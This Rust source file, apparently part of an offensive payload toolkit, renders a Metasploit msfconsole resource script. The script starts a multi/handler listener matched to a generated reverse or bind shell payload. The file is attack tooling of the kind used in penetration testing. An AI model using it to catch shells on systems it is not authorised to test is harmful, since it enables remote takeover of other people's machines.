//! Resource-script rendering.
//!
//! The companion `.rc` file sets up the msfconsole handler matching a
//! generated payload, so the listener side is one `msfconsole -r` away.

use armory_core::{Payload, ShellMode};

/// Render the msfconsole resource script for a payload.
#[must_use]
pub fn resource_script(payload: &Payload) -> String {
    let addr_line = match payload.mode() {
        ShellMode::Reverse => format!("set LHOST {}", payload.lhost),
        ShellMode::Bind => format!("set RHOST {}", payload.rhost),
    };
    format!(
        "use exploit/multi/handler\n\
         set PAYLOAD {}\n\
         {addr_line}\n\
         set LPORT {}\n\
         set ExitOnSession false\n\
         exploit -j -z\n",
        payload.msf_payload, payload.lport
    )
}
